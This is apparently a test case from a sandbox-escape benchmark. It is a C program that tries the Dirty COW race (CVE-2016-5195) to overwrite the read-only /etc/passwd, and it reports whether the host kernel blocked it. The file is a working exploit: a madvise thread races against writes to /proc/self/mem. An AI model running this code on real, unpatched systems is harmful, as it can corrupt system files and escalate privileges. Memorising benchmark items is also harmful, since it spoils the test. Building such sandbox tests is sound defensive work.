// attack: other contents for a read-only file, by a race (Dirty COW, CVE-2016-5195)
// stopped by: the host's kernel
// expect: ok
// like: SandboxEscapeBench Dirty COW
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

static char *map;
static volatile int over;

static void *forget(void *nothing) {
    while (!over) madvise(map, 4096, MADV_DONTNEED);
    return nothing;
}

int main(void) {
    char before[8], after[8];
    int file = open("/etc/passwd", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    pread(file, before, 8, 0);
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    pthread_t thread;
    pthread_create(&thread, NULL, forget, NULL);
    for (time_t begin = time(NULL); time(NULL) < begin + 2;) pwrite(memory, "escaped", 7, (off_t)map);
    over = 1;
    pthread_join(thread, NULL);
    pread(file, after, 8, 0);
    puts(memcmp(before, after, 8) ? "ESCAPED: /etc/passwd is changed" : "HELD: /etc/passwd is as it was");
}
